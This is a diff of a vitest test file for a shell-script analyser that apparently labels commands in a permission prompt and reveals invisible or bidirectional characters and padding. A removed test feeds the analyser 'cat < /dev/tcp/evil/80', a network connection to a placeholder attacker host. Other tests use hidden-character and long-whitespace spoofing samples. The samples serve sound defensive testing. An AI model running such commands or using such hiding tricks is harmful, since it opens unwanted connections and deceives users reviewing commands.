@@ -1,33 +1,14 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { analyseShell, describeCommand, riskyGitConfig, visible } from "./index.ts";
-
-const parts = (script: string) => describeCommand(analyseShell(script, { cwd: "/w", home: "/h" }));
+import { analyseShell, riskyGitConfig, visible } from "./index.ts";
 
 describe("what a prompt shows", () => {
-  it("G07 every simple command with its verdict and reason", () => {
-    expect(parts("cd a && ls | frob; echo x > out")).toEqual([
-      { text: "cd a", verdict: "reads", cwd: "/w" },
-      { text: "ls", verdict: "reads", cwd: "/w/a" },
-      { text: "frob", verdict: "opaque", why: "What frob does is not known.", cwd: "/w/a" },
-      { text: "echo x", verdict: "reads", cwd: "/w/a" },
-      { text: "replace /w/a/out", verdict: "writes" },
-      { text: "replace /w/out", verdict: "writes" },
-    ]);
-    expect(parts("$X")[0]).toMatchObject({
-      verdict: "unknown",
-      why: "The script builds the name of a command at run time.",
-    });
-    expect(parts("cat < /dev/tcp/evil/80").map(({ text }) => text)).toContain("connects to evil");
-  });
-
   it("G07 makes control, bidirectional and invisible characters visible, and counts padding", () => {
     expect(visible("a\u202Eb\u200Bc\u0007\u00A0\u2800\u3164\tx\ny")).toBe(
       "a\\u{202E}b\\u{200B}c\\u{7}\\u{A0}\\u{2800}\\u{3164}\\tx\ny",
     );
     expect(visible(`ls${" ".repeat(200)}; rm x`)).toBe("ls[200 spaces]; rm x");
     expect(visible("größe 漢字 🙂")).toBe("größe 漢字 🙂");
-    expect(parts("echo '\u202Egnp.x'")[0]?.text).toBe("echo '\\u{202E}gnp.x'");
   });
 
   it("G07 shows nothing but visible characters, whatever comes in", () => {
